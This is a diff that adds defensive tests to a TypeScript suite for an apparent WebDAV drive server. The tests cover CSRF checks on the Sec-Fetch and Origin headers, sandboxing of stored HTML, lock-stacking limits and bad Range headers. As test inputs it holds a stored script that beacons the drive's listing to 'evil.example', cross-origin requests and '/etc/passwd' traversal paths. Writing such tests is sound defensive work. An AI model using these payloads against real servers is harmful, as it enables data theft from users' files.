@@ -149,6 +149,74 @@ describe('shardvault mount', () => {
     expect((await send('OPTIONS', '/', { headers: { host: `localhost:${url.port}` } })).status).toBe(200);
   });
 
+  it("refuses another site's page in a browser that signed in to it (CSRF, probing names)", async () => {
+    // A browser that signed in keeps the credentials and sends them with any page's request
+    // to this origin: an <img> tells a page whether a name exists (load or error) and a
+    // picture's size; a navigation downloads plaintext into the Downloads folder.
+    const probe = { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' };
+    expect((await send('GET', '/packed/a.txt', { headers: probe })).status).toBe(403);
+    const navigation = { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' };
+    expect((await send('GET', '/packed/a.txt', { headers: navigation })).status).toBe(403);
+    // Another port of this machine is another origin of the same site: no better.
+    expect((await send('GET', '/packed/a.txt', { headers: { 'sec-fetch-site': 'same-site' } })).status).toBe(403);
+    // A sandboxed frame or a file:// page says Origin: null.
+    expect((await send('PUT', '/csrf.txt', { headers: { origin: 'null' }, body: 'x' })).status).toBe(403);
+    const form = { origin: 'http://evil.example', 'content-type': 'text/plain' };
+    expect((await send('PUT', '/csrf.txt', { headers: form, body: 'x' })).status).toBe(403);
+    expect((await send('GET', '/csrf.txt')).status).toBe(404);
+    // What the user opens (typed, a bookmark) and the drive's own listing's links still work,
+    // and so do WebDAV clients, which send neither header.
+    const typed = { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' };
+    expect((await send('GET', '/packed/a.txt', { headers: typed })).status).toBe(200);
+    const own = { 'sec-fetch-site': 'same-origin', origin: `http://127.0.0.1:${url.port}` };
+    expect((await send('GET', '/packed/', { headers: own })).status).toBe(200);
+    expect((await send('GET', '/packed/a.txt')).status).toBe(200);
+  });
+
+  it('lets no stored page run at its origin, where the signed-in browser reads everything', async () => {
+    // A page of the drive's own origin would read every file with the browser's sign-in.
+    const page =
+      '<!doctype html><script>fetch("/").then(r => r.text()).then(t => navigator.sendBeacon("//evil.example", t))</script>';
+    expect((await send('PUT', '/page.html', { body: page })).status).toBe(201);
+    for (const path of ['/page.html', '/']) {
+      const answer = await send('GET', path);
+      expect(answer.status).toBe(200);
+      expect(answer.headers['x-content-type-options']).toBe('nosniff');
+      expect(answer.headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
+    }
+    expect((await send('GET', '/page.html')).headers['content-type']).toBe('application/octet-stream');
+    expect((await send('DELETE', '/page.html')).status).toBe(204);
+  });
+
+  it('bounds what locks make a PROPFIND say: owners and locks stacked on one resource', async () => {
+    // Each depth-infinity lock on a folder is listed in every child's lockdiscovery: 100
+    // shared locks with 60 KiB owners over 200 files made one PROPFIND take 38 s and 1.2 GB.
+    expect((await send('MKCOL', '/stacked')).status).toBe(201);
+    for (let i = 0; i < 3; i++) expect((await send('PUT', `/stacked/f${i}`, { body: 'x' })).status).toBe(201);
+    const lockinfo = (owner: string): string =>
+      `<?xml version="1.0"?><D:lockinfo xmlns:D="DAV:"><D:lockscope><D:shared/></D:lockscope>` +
+      `<D:locktype><D:write/></D:locktype><D:owner>${owner}</D:owner></D:lockinfo>`;
+    const lock = (owner: string): Promise<Answer> =>
+      send('LOCK', '/stacked', { headers: { depth: 'infinity' }, body: lockinfo(owner) });
+    expect((await lock('o'.repeat(60 * 1024))).status).toBe(400);
+    const tokens: string[] = [];
+    for (let i = 0; i < 16; i++) {
+      const taken = await lock(`<D:href>client ${i}</D:href>`);
+      expect(taken.status).toBe(200);
+      tokens.push(String(taken.headers['lock-token']));
+    }
+    // A lock on a file below stacks on the folder's sixteen as well.
+    expect((await lock('one too many')).status).toBe(423);
+    expect((await send('LOCK', '/stacked/f0', { headers: { depth: '0' }, body: lockinfo('x') })).status).toBe(423);
+    const listing = await send('PROPFIND', '/stacked', { headers: { depth: '1' } });
+    expect(listing.status).toBe(207);
+    expect(listing.body.length).toBeLessThan(64 * 1024);
+    for (const token of tokens) {
+      expect((await send('UNLOCK', '/stacked', { headers: { 'lock-token': token } })).status).toBe(204);
+    }
+    expect((await send('DELETE', '/stacked')).status).toBe(204);
+  });
+
   it('never follows .. and bounds the XML it reads', async () => {
     expect((await send('GET', '/%2e%2e/etc/passwd')).status).toBe(400);
     expect((await send('GET', '/a/../../etc')).status).toBe(400);
@@ -188,6 +256,8 @@ describe('shardvault mount', () => {
     const tail = await send('GET', '/ranged.bin', { headers: { range: 'bytes=-100' } });
     expect(tail.body.equals(bytes.subarray(bytes.length - 100))).toBe(true);
     expect((await send('GET', '/ranged.bin', { headers: { range: `bytes=${bytes.length}-` } })).status).toBe(416);
+    expect((await send('GET', '/ranged.bin', { headers: { range: 'bytes=9-3' } })).status).toBe(416);
+    expect((await send('GET', '/ranged.bin', { headers: { range: 'bytes=99999999999999999999-' } })).status).toBe(416);
     expect((await send('DELETE', '/ranged.bin')).status).toBe(204);
   });
 
